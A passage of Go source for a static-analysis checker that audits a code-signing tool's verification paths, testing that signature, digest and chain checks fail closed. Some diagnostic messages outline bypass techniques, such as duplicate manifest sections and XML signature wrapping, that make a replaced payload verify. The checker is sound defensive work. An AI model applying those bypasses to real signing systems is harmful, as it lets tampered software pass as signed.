			bad = append(bad, "environment variable")
		}
		// a VerifyOpts field other than NoDigests
		if t, f, _ := p.fieldLoad(cond); t == "signers.VerifyOpts" && f != "NoDigests" {
			bad = append(bad, "VerifyOpts."+f)
		}
	}
	c.Check(len(bad) == 0, "R02c", key+" switches", p.Pos(s.instr.Pos()), "only skip-digests parameters guard this comparison", fmt.Sprintf("this digest comparison can be switched off by %v", bad))
}

func c02Primitives(c *Ctx, all map[*ssa.Function]bool) {
	primitivesFailClosed(c, "R02d", all, true)
}

func primitivesFailClosed(c *Ctx, rule string, all map[*ssa.Function]bool, withVerifyCmd bool) int {
	p := c.P
	prims := map[string]bool{
		"crypto/rsa.VerifyPKCS1v15": true, "crypto/rsa.VerifyPSS": true, "crypto/ecdsa.Verify": true,
		"lib/x509tools.Verify": true, "lib/x509tools.PkixVerify": true,
		"(*lib/pkcs7.SignerInfo).Verify": true, "(*lib/pkcs7.SignedData).Verify": true,
		"(*github.com/ProtonMail/go-crypto/openpgp/packet.PublicKey).VerifySignature": true,
		"github.com/ProtonMail/go-crypto/openpgp.ReadMessage":                         true,
		"github.com/sassoftware/go-rpmutils.Verify":                                   true,
		"lib/pgptools.VerifyDetached":                                                 true, "lib/pgptools.VerifyInline": true, "lib/pgptools.VerifyClearSign": true,
		"lib/xmldsig.Verify": true, "(*lib/fruit/csblob.SigBlob).VerifyPages": true, "lib/fruit/csblob.Verify": true,
		"lib/authenticode.VerifyPE": true, "lib/authenticode.VerifyMSI": true, "lib/authenticode.VerifyCab": true, "lib/authenticode.VerifyPowershell": true,
		"lib/signjar.Verify": true, "lib/signappx.Verify": true, "lib/signxap.Verify": true, "lib/signdeb.Verify": true,
		"(*signers/apk.apkSigner).Verify": true, "(*signers/apk.apkSignature).VerifySignature": true,
	}
	var fns []*ssa.Function
	for f := range all {
		fns = append(fns, f)
	}
	// the verify command itself: verifyOne and the helpers of its package (a dispatch step given a name)
	if withVerifyCmd {
		for _, v := range p.pkgFuncs("cmdline/verify") {
			if !all[v] {
				fns = append(fns, v)
			}
		}
	}
	// a module's verifier called through the registry entry (mod.Verify / mod.VerifyStream) is a primitive too
	isPrim := func(call *ssa.Call) (string, bool) {
		name := p.calleeName(call.Common())
		if prims[name] {
			return name, true
		}
		if l, ok := call.Call.Value.(*ssa.UnOp); ok && l.Op == token.MUL && !call.Call.IsInvoke() {
			if tn, f, _ := p.fieldAddr(l.X); tn == "signers.Signer" && (f == "Verify" || f == "VerifyStream") {
				return "signers.Signer." + f, true
			}
		}
		return name, false
	}
	sort.Slice(fns, func(i, j int) bool { return p.FName(fns[i]) < p.FName(fns[j]) })
	n := 0
	for _, fn := range fns {
		cnt := map[string]int{}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				name, isP := isPrim(call)
				if !isP {
					continue
				}
				n++
				cnt[name]++
				key := fmt.Sprintf("%s %s#%d", p.FName(fn), name, cnt[name])
				c.Analysed(p.FName(fn))
				// failure value
				var failEdges map[edge]bool
				if name == "crypto/ecdsa.Verify" {
					if !valueIsUsed(call, map[ssa.Value]bool{}) {
						c.Fail(rule, key, p.Pos(call.Pos()), "signature check result discarded")
						continue
					}
					failEdges = passEdges(fn, Guard{Match: func(f Fact) bool { return f.V == ssa.Value(call) && f.Kind == IsFalse }})
				} else {
					if errDisposition(call) == errDropped {
						c.Fail(rule, key, p.Pos(call.Pos()), "verification error discarded: a bad signature is accepted")
						continue
					}
					failEdges = passEdges(fn, errNonNilGuard(errValueOf(call)))
				}
				direct := false
				for _, r := range *call.Referrers() {
					if _, ok := r.(*ssa.Return); ok {
						direct = true
					}
				}
				if direct || len(failEdges) == 0 {
					c.Pass(rule, key, p.Pos(call.Pos()), "result handed to the caller")
					continue
				}
				// an entry that cannot be evaluated may be passed over in a loop as long as a result with
				// nothing verified is refused afterwards: that case is decided by R02h
				if _, H := loopAround(fn, call.Block()); H != nil && failureContinues(fn, call) && p.refusesEmpty(fn, call) {
					c.Pass(rule, key, p.Pos(call.Pos()), "a failing entry is passed over, a result with nothing verified is refused (see R02h)")
					continue
				}
				// a failure may lead to another primitive (fallback) but not to success
				del := map[edge]bool{}
				for _, b2 := range fn.Blocks {
					has := false
					for _, in2 := range b2.Instrs {
						if c2, ok := in2.(*ssa.Call); ok && c2 != call && isPrimCall(isPrim, c2) {
							has = true
						}
					}
					if has {
						for _, pb := range b2.Preds {
							for si, s2 := range pb.Succs {
								if s2 == b2 {
									del[edge{pb.Index, si}] = true
								}
							}
						}
					}
				}
				ev := errValueOf(call)
				// re-running this very primitive (next loop iteration) is another attempt too
				for _, pb := range call.Block().Preds {
					for si, s2 := range pb.Succs {
						if s2 == call.Block() {
							del[edge{pb.Index, si}] = true
						}
					}
				}
				hasPrim := func(b2 *ssa.BasicBlock) bool {
					for _, in2 := range b2.Instrs {
						if c2, ok := in2.(*ssa.Call); ok && c2 != call && isPrimCall(isPrim, c2) {
							return true
						}
					}
					return false
				}
				if ev != nil {
					// on the paths explored no other attempt ran, so a variable this error was merged
					// into still holds it: its "== nil" edges are infeasible
					for e := range passEdges(fn, Guard{Match: func(f Fact) bool {
						if f.Kind != IsNil {
							return false
						}
						ph, ok := stripConv(f.V).(*ssa.Phi)
						if !ok {
							return false
						}
						for _, lf := range phiLeaves(ph, nil, map[*ssa.Phi]bool{}) {
							if stripConv(lf.V) == ev {
								return true
							}
						}
						return false
					}}) {
						del[e] = true
					}
					// "not signed" is an acceptable verdict: err.(sigerrors.NotSignedError) ok-edge may go on
					for _, b2 := range fn.Blocks {
						for _, in2 := range b2.Instrs {
							ta, ok := in2.(*ssa.TypeAssert)
							if !ok || !ta.CommaOk || stripConv(ta.X) != ev || !strings.HasSuffix(typeName(p, ta.AssertedType), "sigerrors.NotSignedError") {
								continue
							}
							for _, r := range *ta.Referrers() {
								if ex, ok := r.(*ssa.Extract); ok && ex.Index == 1 {
									okv := ssa.Value(ex)
									for e := range passEdges(fn, Guard{Match: func(f Fact) bool { return f.V == okv && f.Kind == IsTrue }}) {
										del[e] = true
									}
								}
							}
						}
					}
				}
				var starts []*ssa.BasicBlock
				for e := range failEdges {
					if t := fn.Blocks[e.from].Succs[e.succ]; !hasPrim(t) {
						starts = append(starts, t)
					}
				}
				pred := map[int]int{}
				seen := reach(fn, starts, del, pred)
				bad := false
				var path []string
				ei := errResultIndex(fn.Signature)
				for _, r := range p.successReturns(fn) {
					if !seen[r.Block().Index] {
						continue
					}
					if ev != nil && ei >= 0 {
						// returning the error itself (possibly merged with another primitive's error)
						// is propagation — unless a literal nil is merged in as well
						self, hasNil := false, false
						for _, lf := range phiLeaves(retVal(r, ei), nil, map[*ssa.Phi]bool{}) {
							if stripConv(lf.V) == ev {
								self = true
							}
							if isNilConst(lf.V) {
								hasNil = true
							}
						}
						if self && !hasNil {
							continue
						}
					}
					bad = true
					path = p.witness(fn, pred, r.Block().Index)
				}
				c.Check(!bad, rule, key, p.Pos(call.Pos()), "failure ends in an error (or another verification attempt)", "a failed signature / integrity verification can end in a success return", path...)
			}
		}
	}
	// a primitive tried on every candidate by a library search (slices.IndexFunc(certs, func(c) bool
	// { return Verify(c...) == nil })): the predicate may answer true only when the primitive
	// passed, and "no candidate passed" must not reach a success return
	for _, fn := range fns {
		nS := 0
		for _, ci := range callsOf(fn) {
			call, ok := ci.(*ssa.Call)
			if !ok || len(call.Call.Args) != 2 {
				continue
			}
			sc := call.Call.StaticCallee()
			if sc == nil {
				continue
			}
			isIndex := strings.HasPrefix(sc.String(), "slices.IndexFunc[")
			isContains := strings.HasPrefix(sc.String(), "slices.ContainsFunc[")
			if !isIndex && !isContains {
				continue
			}
			var pred *ssa.Function
			switch f := call.Call.Args[1].(type) {
			case *ssa.MakeClosure:
				pred, _ = f.Fn.(*ssa.Function)
			case *ssa.Function:
				pred = f
			}
			if pred == nil || pred.Blocks == nil {
				continue
			}
			var primErrs []ssa.Value
			for _, pc := range callsOf(pred) {
				if pcall, ok := pc.(*ssa.Call); ok && prims[p.calleeName(pcall.Common())] {
					if ev := errValueOf(pcall); ev != nil {
						primErrs = append(primErrs, ev)
					}
				}
			}
			if len(primErrs) == 0 {
				continue
			}
			n++
			nS++
			key := fmt.Sprintf("%s search with a verifying predicate#%d", p.FName(fn), nS)
			c.Analysed(p.FName(fn))
			passed := Guard{Name: "the primitive returned nil", Match: func(f Fact) bool {
				if f.Kind != IsNil {
					return false
				}
				for _, ev := range primErrs {
					if stripConv(f.V) == ev {
						return true
					}
				}
				return false
			}}
			okPred := true
			for _, r := range returnsOf(pred) {
				if m, _ := p.trueReturnMissing(pred, r, 0, passed); len(m) > 0 {
					okPred = false
				}
			}
			if !okPred {
				c.Fail(rule, key, p.Pos(call.Pos()), "the search predicate can answer true without the verification primitive having passed")
				continue
			}
			notFound := Guard{Match: func(f Fact) bool {
				if isContains {
					return f.V == ssa.Value(call) && f.Kind == IsFalse
				}
				bo, ok := f.V.(*ssa.BinOp)
				if !ok || bo.X != ssa.Value(call) {
					return false
				}
				k, isK := constInt(bo.Y)
				if !isK {
					return false
				}
				switch {
				case bo.Op == token.LSS && k == 0, bo.Op == token.EQL && k == -1, bo.Op == token.LEQ && k == -1:
					return f.Kind == IsTrue
				case bo.Op == token.GEQ && k == 0, bo.Op == token.NEQ && k == -1, bo.Op == token.GTR && k == -1:
					return f.Kind == IsFalse
				}
				return false
			}}
			failEdges := passEdges(fn, notFound)
			del := map[edge]bool{}
			for _, b2 := range fn.Blocks {
				for _, in2 := range b2.Instrs {
					if c2, ok := in2.(*ssa.Call); ok && prims[p.calleeName(c2.Common())] {
						for _, pb := range b2.Preds {
							for si, s2 := range pb.Succs {
								if s2 == b2 {
									del[edge{pb.Index, si}] = true
								}
							}
						}
					}
				}
			}
			var starts []*ssa.BasicBlock
			for e := range failEdges {
				starts = append(starts, fn.Blocks[e.from].Succs[e.succ])
			}
			pred2 := map[int]int{}
			seen := reach(fn, starts, del, pred2)
			bad := false
			var path []string
			for _, r := range p.successReturns(fn) {
				if seen[r.Block().Index] {
					bad = true
					path = p.witness(fn, pred2, r.Block().Index)
				}
			}
			c.Check(!bad, rule, key, p.Pos(call.Pos()), "no candidate verified: ends in an error", "when the verification primitive passed for none of the candidates a success return is still reachable: the signature is accepted unverified", path...)
		}
	}
	if withVerifyCmd {
		c.Check(n >= 10, rule, "verification primitive call sites", "-", fmt.Sprintf("%d", n), fmt.Sprintf("only %d call sites found", n))
	}
	return n
}

func c02Misc(c *Ctx) {
	p := c.P
	// chain validation in the verify command
	if fn := p.Func("cmdline/verify.verifyOne"); fn == nil {
		c.Undecided("R02e", "verify.verifyOne", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		vcs := p.callsIn(fn, "(lib/pkcs9.TimestampedSignature).VerifyChain")
		if len(vcs) != 1 {
			c.Fail("R02e", "cmdline/verify.verifyOne chain validation", p.Pos(fn.Pos()), fmt.Sprintf("%d VerifyChain calls, expected 1", len(vcs)))
		} else {
			vc := vcs[0]
			// conditions the call is control-dependent on: only X509Signature != nil and !NoChain
			var extra []string
			for _, b := range fn.Blocks {
				ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
				if !ok {
					continue
				}
				dep := false
				for si := range b.Succs {
					if !reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, map[edge]bool{{b.Index, si}: true}, nil)[vc.Block().Index] {
						dep = true
					}
				}
				if !dep {
					continue
				}
				cond := ifi.Cond
				desc := short(cond.String(), 50)
				okCond := false
				for _, f := range append(factsOf(cond, true), factsOf(cond, false)...) {
					_, fld, _ := p.fieldLoad(stripConv(f.V))
					if fld == "NoChain" || fld == "X509Signature" {
						okCond = true
					}
					// error checks and loop conditions of earlier steps
					if call, _ := resultOf(f.V); call != nil {
						okCond = true
					}
					if _, isNext := stripConv(f.V).(*ssa.Extract); isNext {
						okCond = true
					}
				}
				if bo, ok := cond.(*ssa.BinOp); ok {
					for _, side := range []ssa.Value{bo.X, bo.Y} {
						if _, fld, _ := p.fieldLoad(stripConv(side)); fld == "X509Signature" || fld == "VerifyStream" || fld == "Compression" {
							okCond = true
						}
						if _, isPhi := side.(*ssa.Phi); isPhi {
							okCond = true // mod == nil tests, range index
						}
						if _, isCall := side.(*ssa.Call); isCall {
							okCond = true
						}
						if ex, isEx := side.(*ssa.Extract); isEx {
							_ = ex
							okCond = true
						}
					}
				}
				if !okCond {
					extra = append(extra, desc)
				}
			}
			c.Check(len(extra) == 0, "R02e", "cmdline/verify.verifyOne chain validation", p.Pos(vc.Pos()), "VerifyChain runs for every X.509 signature unless NoChain", fmt.Sprintf("chain validation additionally depends on %v", extra))
			// a chain failure is an error
			if r, path := p.failureReachesSuccess(fn, errValueOf(vc)); r != nil {
				c.Fail("R02e", "cmdline/verify.verifyOne chain failure", p.Pos(vc.Pos()), "a chain validation failure can end in success", path...)
			} else {
				c.Pass("R02e", "cmdline/verify.verifyOne chain failure", p.Pos(vc.Pos()), "chain failure is returned")
			}
		}
	}
	// SignerInfo.Verify: messageDigest attribute checked whenever attributes are present
	if fn := p.Func("lib/pkcs7.(*SignerInfo).Verify"); fn == nil {
		c.Undecided("R02e", "(*SignerInfo).Verify", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		hasAttrs := passEdges(fn, Guard{Match: func(f Fact) bool {
			bo, ok := f.V.(*ssa.BinOp)
			if !ok || !isIntConst(bo.Y, 0) {
				return false
			}
			call, ok := bo.X.(*ssa.Call)
			if !ok {
				return false
			}
			bi, ok := call.Call.Value.(*ssa.Builtin)
			if !ok || bi.Name() != "len" {
				return false
			}
			_, fld, _ := p.fieldLoad(call.Call.Args[0])
			if fld != "AuthenticatedAttributes" {
				return false
			}
			return (bo.Op == token.NEQ && f.Kind == IsTrue) || (bo.Op == token.EQL && f.Kind == IsFalse) || (bo.Op == token.GTR && f.Kind == IsTrue)
		}})
		gets := p.callsIn(fn, "(*lib/pkcs7.AttributeList).GetOne")
		ok := len(hasAttrs) > 0 && len(gets) >= 1
		if ok {
			// from the has-attributes edge, the signature check is unreachable without GetOne(MessageDigest)
			var starts []*ssa.BasicBlock
			for e := range hasAttrs {
				starts = append(starts, fn.Blocks[e.from].Succs[e.succ])
			}
			del := map[edge]bool{}
			for _, g := range gets {
				if p.memKey(g.Common().Args[1]) != "g:lib/pkcs7.OidAttributeMessageDigest" {
					continue
				}
				for _, pb := range g.Block().Preds {
					for si, s2 := range pb.Succs {
						if s2 == g.Block() {
							del[edge{pb.Index, si}] = true
						}
					}
				}
				for _, st := range starts {
					if st == g.Block() {
						starts = nil
					}
				}
			}
			if len(starts) > 0 {
				seen := reach(fn, starts, del, nil)
				for _, pv := range p.callsIn(fn, "lib/x509tools.PkixVerify") {
					if seen[pv.Block().Index] {
						ok = false
					}
				}
			}
		}
		c.Check(ok, "R02e", "(*lib/pkcs7.SignerInfo).Verify messageDigest", p.Pos(fn.Pos()), "with authenticated attributes the messageDigest attribute is read and compared before the signature check", "with authenticated attributes present the signature is checked without first reading the messageDigest attribute (content no longer bound to the signature)")
	}
}

// ------------------------------------------------------------------------------ R02h / R02i

// loopHeaderOf: blocks of the innermost natural loop around b that is entered from outside, and
// its header (the block of the loop with a predecessor outside it). nil if b is in no cycle.
func loopAround(fn *ssa.Function, b *ssa.BasicBlock) (map[int]bool, *ssa.BasicBlock) {
	from := reach(fn, b.Succs, nil, nil)
	if !from[b.Index] {
		return nil, nil
	}
	L := map[int]bool{}
	for _, x := range fn.Blocks {
		if from[x.Index] && reach(fn, []*ssa.BasicBlock{x}, nil, nil)[b.Index] {
			L[x.Index] = true
		}
	}
	for _, x := range fn.Blocks {
		if !L[x.Index] {
			continue
		}
		for _, pb := range x.Preds {
			if !L[pb.Index] {
				return L, x
			}
		}
	}
	return L, nil
}

// iterationSkips: can one iteration of the loop around `must` come back to the loop header
// without executing `must` (starting at `from`, or at the header when from is nil)?
func iterationSkips(fn *ssa.Function, must ssa.Instruction, from ssa.Instruction) ([]string, bool) {
	L, H := loopAround(fn, must.Block())
	if H == nil {
		return nil, false
	}
	del := map[edge]bool{}
	for _, pb := range must.Block().Preds {
		for si, s := range pb.Succs {
			if s == must.Block() {
				del[edge{pb.Index, si}] = true
			}
		}
	}
	// edges leaving the loop are not part of an iteration
	for bi := range L {
		for si, s := range fn.Blocks[bi].Succs {
			if !L[s.Index] {
				del[edge{bi, si}] = true
			}
		}
	}
	var starts []*ssa.BasicBlock
	if from != nil {
		if from.Block() == must.Block() {
			return nil, false
		}
		starts = succsFrom(from.Block(), del)
	} else {
		if H == must.Block() {
			return nil, false
		}
		starts = succsFrom(H, del)
	}
	pred := map[int]int{}
	seen := reach(fn, starts, del, pred)
	// back at the header (or at the start marker) = next iteration
	target := H
	if from != nil {
		target = from.Block()
	}
	if seen[target.Index] {
		return nil, true
	}
	return nil, false
}

func c02LoopSkips(c *Ctx, all map[*ssa.Function]bool) {
	p := c.P
	c.Rule("R02h", "a verifier loop never skips an entry unverified unless 'nothing verified' is tested afterwards; every named manifest section that is parsed is stored", 3)
	prims := map[string]bool{
		"lib/authenticode.checkSignature": true, "(*signers/apk.apkSigner).Verify": true,
		"(*lib/pkcs7.SignedData).Verify": true, "lib/signjar.verifySigFile": true, "lib/signjar.verifyPkcs": true,
		"(*signers/apk.apkSignature).VerifySignature": true,
	}
	var fns []*ssa.Function
	for f := range all {
		fns = append(fns, f)
	}
	sort.Slice(fns, func(i, j int) bool { return p.FName(fns[i]) < p.FName(fns[j]) })
	n := 0
	for _, fn := range fns {
		k := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok || !prims[p.calleeName(call.Common())] {
					continue
				}
				if _, H := loopAround(fn, b); H == nil {
					continue
				}
				n++
				k++
				key := fmt.Sprintf("%s loop around %s#%d", p.FName(fn), p.calleeName(call.Common()), k)
				c.Analysed(p.FName(fn))
				_, skips := iterationSkips(fn, call, nil)
				if !skips && failureContinues(fn, call) {
					skips = true
				}
				if !skips {
					c.Pass("R02h", key, p.Pos(call.Pos()), "every iteration verifies its entry")
					continue
				}
				okAll := p.refusesEmpty(fn, call)
				c.Check(okAll, "R02h", key, p.Pos(call.Pos()), "entries may be skipped, but an empty result is refused afterwards", "an iteration of the verification loop can skip its entry without verifying it, and the function can still succeed with nothing verified: an artifact whose only signature entry is of the skipped kind is reported as valid")
			}
		}
	}
	if n < 2 {
		c.Undecided("R02h", "verifier loops", "-", fmt.Sprintf("only %d loops around a verification call found (3 confirmed by reading)", n))
	}
	// JAR manifest: a named section that was parsed is stored
	if pm := p.Func("lib/signjar.parseManifest"); pm == nil {
		c.Undecided("R02h", "signjar.parseManifest", "-", "function not found")
	} else {
		c.Analysed(p.FName(pm))
		var getName ssa.CallInstruction
		for _, ci := range p.callsIn(pm, "(net/http.Header).Get") {
			if s, ok := constString(ci.Common().Args[1]); ok && s == "Name" {
				getName = ci
			}
		}
		var upd *ssa.MapUpdate
		for _, b := range pm.Blocks {
			for _, in := range b.Instrs {
				if mu, ok := in.(*ssa.MapUpdate); ok {
					if l, ok := mu.Map.(*ssa.UnOp); ok && p.memKey(l.X) == "f:lib/signjar.FilesMap.Files" {
						upd = mu
					}
				}
			}
		}
		if getName == nil || upd == nil {
			c.Undecided("R02h", "parseManifest section store", p.Pos(pm.Pos()), "Name lookup or the store into FilesMap.Files not found")
		} else {
			// the signature-file side keeps the same occurrence: every named section it splits off is stored
			if vs := p.Func("lib/signjar.verifySigFile"); vs != nil {
				c.Analysed(p.FName(vs))
				var get2 ssa.CallInstruction
				var upd2 *ssa.MapUpdate
				for _, ci := range p.callsIn(vs, "(net/http.Header).Get") {
					if s, ok := constString(ci.Common().Args[1]); ok && s == "Name" {
						get2 = ci
					}
				}
				for _, b := range vs.Blocks {
					for _, in := range b.Instrs {
						if mu, ok := in.(*ssa.MapUpdate); ok && get2 != nil && dependsOn(mu.Key, func(x ssa.Value) bool { return x == get2.Value() }) {
							upd2 = mu
						}
					}
				}
				if get2 == nil || upd2 == nil {
					c.Undecided("R02h", "verifySigFile section store", p.Pos(vs.Pos()), "Name lookup or the store into the section map not found")
				} else {
					_, skips2 := iterationSkips(vs, upd2, get2)
					c.Check(!skips2, "R02h", "verifySigFile stores every named section it split off", p.Pos(upd2.Pos()), "last section of a name wins, as in parseManifest", "a named manifest section can be split off and then not stored in the section map: when a name occurs twice the signature file's section digest is checked against the first occurrence while the file digests come from the last (parseManifest keeps the last), so an appended duplicate section makes a replaced payload verify")
				}
			}
			_, skips := iterationSkips(pm, upd, getName)
			c.Check(!skips, "R02h", "parseManifest stores every named section it parsed", p.Pos(upd.Pos()), "last section of a name wins, as in verifySigFile", "a named manifest section can be parsed and then dropped (not stored into FilesMap.Files): when a name occurs twice, the file digests are checked against one occurrence while the signature file's section digest is checked against the other, so a forged duplicate section makes a replaced payload verify")
		}
	}
}

// refusesEmpty: every success return of fn that can follow the loop around `call` lies behind a
// test that the loop collected something: the length of a list the loop appends to, a counter it
// increments or a flag it sets.
func (p *Prog) refusesEmpty(fn *ssa.Function, call *ssa.Call) bool {
	empty := Guard{Name: "len(result) != 0", Match: func(f Fact) bool {
		L, _ := loopAround(fn, call.Block())
		// a flag set in the loop: `if !verified` / `if verified`
		if ph, ok := f.V.(*ssa.Phi); ok {
			setInLoop := dependsOn(ph, func(x ssa.Value) bool {
				q, ok := x.(*ssa.Phi)
				if !ok {
					return false
				}
				for i, e := range q.Edges {
					if bv, isB := boolConst(e); isB && bv && L[q.Block().Preds[i].Index] {
						return true
					}
				}
				return false
			})
			return setInLoop && f.Kind == IsTrue
		}
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		// a counter incremented in the loop: `n == 0`, `n > 0`
		if _, isCall := bo.X.(*ssa.Call); !isCall && isIntConst(bo.Y, 0) {
			counted := dependsOn(bo.X, func(x ssa.Value) bool {
				a, ok := x.(*ssa.BinOp)
				return ok && a.Op == token.ADD && L[a.Block().Index] && (isIntConst(a.Y, 1) || isIntConst(a.X, 1))
			})
			if counted {
				return (bo.Op == token.EQL && f.Kind == IsFalse) || (bo.Op == token.NEQ && f.Kind == IsTrue) || (bo.Op == token.GTR && f.Kind == IsTrue)
			}
			return false
		}
		lc, ok := bo.X.(*ssa.Call)
		if !ok {
			return false
		}
		bi, ok := lc.Call.Value.(*ssa.Builtin)
		if !ok || bi.Name() != "len" || !isIntConst(bo.Y, 0) {
			return false
		}
		// the list that is tested is one the loop adds verified entries to
		grown := dependsOn(lc.Call.Args[0], func(x ssa.Value) bool {
			ac, ok := x.(*ssa.Call)
			if !ok || !L[ac.Block().Index] {
				return false
			}
			ab, ok := ac.Call.Value.(*ssa.Builtin)
			return ok && ab.Name() == "append"
		})
		if !grown {
			return false
		}
		return (bo.Op == token.EQL && f.Kind == IsFalse) || (bo.Op == token.NEQ && f.Kind == IsTrue) || (bo.Op == token.GTR && f.Kind == IsTrue)
	}}
	okAll := true
	for _, r := range p.successReturns(fn) {
		if !reachableAfter(fn, call, r, nil, nil) && !reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, nil, nil)[r.Block().Index] {
			continue
		}
		if missing, _ := p.unguardedFromEntry(fn, r, empty); len(missing) > 0 {
			okAll = false
		}
	}
	return okAll
}

// failureContinues: the loop around `call` can go on to its next iteration although the call's
// error was never established to be nil (a `continue` on some errors).
func failureContinues(fn *ssa.Function, call *ssa.Call) bool {
	L, H := loopAround(fn, call.Block())
	if H == nil {
		return false
	}
	ei := errResultIndex(call.Common().Signature())
	if ei < 0 {
		return false
	}
	var errv ssa.Value
	if call.Common().Signature().Results().Len() == 1 {
		errv = call
	} else if refs := call.Referrers(); refs != nil {
		for _, r := range *refs {
			if ex, ok := r.(*ssa.Extract); ok && ex.Index == ei {
				errv = ex
			}
		}
	}
	if errv == nil {
		return true // the error is not even looked at
	}
	del := map[edge]bool{}
	tested := false
	for bi := range L {
		b := fn.Blocks[bi]
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok {
			continue
		}
		bo, ok := ifi.Cond.(*ssa.BinOp)
		if !ok || (bo.Op != token.NEQ && bo.Op != token.EQL) {
			continue
		}
		if !((bo.X == errv && isNilConst(bo.Y)) || (bo.Y == errv && isNilConst(bo.X))) {
			continue
		}
		tested = true
		if bo.Op == token.NEQ {
			del[edge{b.Index, 1}] = true
		} else {
			del[edge{b.Index, 0}] = true
		}
	}
	if !tested {
		return false // handled by the error-propagation rules
	}
	// leaving the loop is not continuing it
	for bi := range L {
		for si, s := range fn.Blocks[bi].Succs {
			if !L[s.Index] {
				del[edge{bi, si}] = true
			}
		}
	}
	seen := reachAfter(fn, call, del, nil)
	return seen[H.Index]
}

// c02VerifiedObject (R02i): what is consumed after xmldsig.Verify is the element the signature
// covers (Signature.Reference), not something looked up again in the unverified document.
func c02VerifiedObject(c *Ctx) {
	p := c.P
	c.Rule("R02i", "digest values are taken from the element the XML signature covers, not from a fresh lookup in the document", 1)
	n := 0
	for _, fn := range p.Funcs {
		vs := p.callsIn(fn, "lib/xmldsig.Verify")
		if len(vs) == 0 {
			continue
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				g := ci.Common().StaticCallee()
				if g == nil || pkgOf(g) != pkgOf(fn) || g.Blocks == nil {
					continue
				}
				// callee compares digests and takes an element
				cmp := false
				for f := range p.moduleReachOpt([]*ssa.Function{g}, false) {
					if pkgOf(f) == pkgOf(g) && len(p.callsIn(f, "crypto/hmac.Equal", "bytes.Equal")) > 0 {
						cmp = true
					}
				}
				if !cmp {
					continue
				}
				for ai, a := range ci.Common().Args {
					if !strings.HasSuffix(a.Type().String(), "etree.Element") {
						continue
					}
					n++
					key := fmt.Sprintf("%s passes the verified element to %s", p.FName(fn), p.FName(g))
					c.Analysed(p.FName(fn))
					ok := dependsOn(a, func(x ssa.Value) bool {
						tn, f, _ := p.fieldLoad(x)
						if strings.HasSuffix(tn, "xmldsig.Signature") && f == "Reference" {
							return true
						}
						tn, f, _ = p.fieldAddr(x)
						return strings.HasSuffix(tn, "xmldsig.Signature") && f == "Reference"
					})
					_ = ai
					c.Check(ok, "R02i", key, p.Pos(ci.Pos()), "argument is Signature.Reference", "the element whose digest values are compared with the files is not the element the XML signature covers (Signature.Reference) but one looked up in the document again: an unsigned element inserted in front of the signed one is consumed instead (signature wrapping), and a replaced payload verifies")
				}
			}
		}
	}
	if n < 1 {
		c.Undecided("R02i", "consumers of a verified XML element", "-", "none found (1 confirmed by reading: vsix.verify -> checkManifest)")
	}
}

// c02SignedInfoUnique (R02j): xmldsig.Verify reads algorithms and the reference digest from a
// struct parse of the whole Signature (encoding/xml: a repeated element overrides the earlier
// one) but hashes one SignedInfo element; the two must be the same element.
func c02SignedInfoUnique(c *Ctx) {
	p := c.P
	c.Rule("R02s", "the blobs embedded in an Apple signature are held against their code-directory slots whether or not they are present", 1)
	for _, f := range embeddedBlobsAlwaysChecked(p) {
		c.Check(f.OK, "R02s", f.Key, f.Pos, "", f.Detail)
	}
	c.Rule("R02o", "the signed list of code-directory hashes is accepted only when it has one entry per code directory", 1)
	for _, f := range plistCoversEveryDirectory(p) {
		c.Check(f.OK, "R02o", f.Key, f.Pos, "", f.Detail, f.Path...)
	}
	c.Rule("R02p", "the verify command verifies the chain of every signature it reports, unless the signature has no certificate or chains are switched off", 1)
	for _, f := range verifyCommandChecksEveryChain(p) {
		c.Check(f.OK, "R02p", f.Key, f.Pos, "", f.Detail, f.Path...)
	}
	c.Rule("R02n", "in the digesting functions, bytes are cut off the end of a line only behind a test of what they are (shared with C11 R11q)", 1)
	{
		var roots []*ssa.Function
		for _, spec := range []string{"lib/authenticode.DigestPowershell", "lib/authenticode.VerifyPowershell"} {
			if f := p.Func(spec); f != nil {
				roots = append(roots, f)
			}
		}
		within := map[*ssa.Function]bool{}
		for _, f := range roots {
			within[f] = true
		}
		for _, f := range tailCutGuarded(p, within) {
			c.Check(f.OK, "R02n", f.Key, f.Pos, "", f.Detail, f.Path...)
		}
	}
	c.Rule("R02m", "a branch taken because a call failed does not return another error value that is known to be nil there (module-wide)", 0)
	for _, f := range failureReturnsNilError(p) {
		c.Check(f.OK, "R02m", f.Key, f.Pos, "", f.Detail)
	}
	c.runControl("R02m wrong error variable control (ctl/wraperr.Open)", "wraperr.Open", failureReturnsNilError)
	c.Rule("R02l", "the PowerShell digester and verifier recognise the start of the signature block by the same test", 1)
	for _, f := range psMarkerTestsAgree(p) {
		c.Check(f.OK, "R02l", f.Key, f.Pos, "", f.Detail)
	}
	c.Rule("R02k", "nothing written into a digest went through a function that trims blanks (module-wide)", 40)
	for _, f := range digestedBytesNotTrimmed(p) {
		c.Check(f.OK, "R02k", f.Key, f.Pos, "", f.Detail)
	}
	c.runControl("R02k trimmed digest input control (ctl/trimdig.canonical)", "trimdig.canonical", digestedBytesNotTrimmed)
	c.Rule("R02j", "the SignedInfo whose signature is checked is the one the reference digest is read from", 1)
	ver := p.Func("lib/xmldsig.Verify")
	if ver == nil {
		c.Undecided("R02j", "xmldsig.Verify", "-", "function not found")
		return
	}
	c.Analysed(p.FName(ver))
	unique := Guard{Name: "exactly one SignedInfo", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		lc, ok := bo.X.(*ssa.Call)
		if !ok {
			return false
		}
		bi, ok := lc.Call.Value.(*ssa.Builtin)
		if !ok || bi.Name() != "len" || !isIntConst(bo.Y, 1) {
			return false
		}
		sel, _ := resultOf(lc.Call.Args[0])
		if sel == nil || !strings.HasSuffix(p.calleeName(sel.Common()), "etree.Element).SelectElements") {
			return false
		}
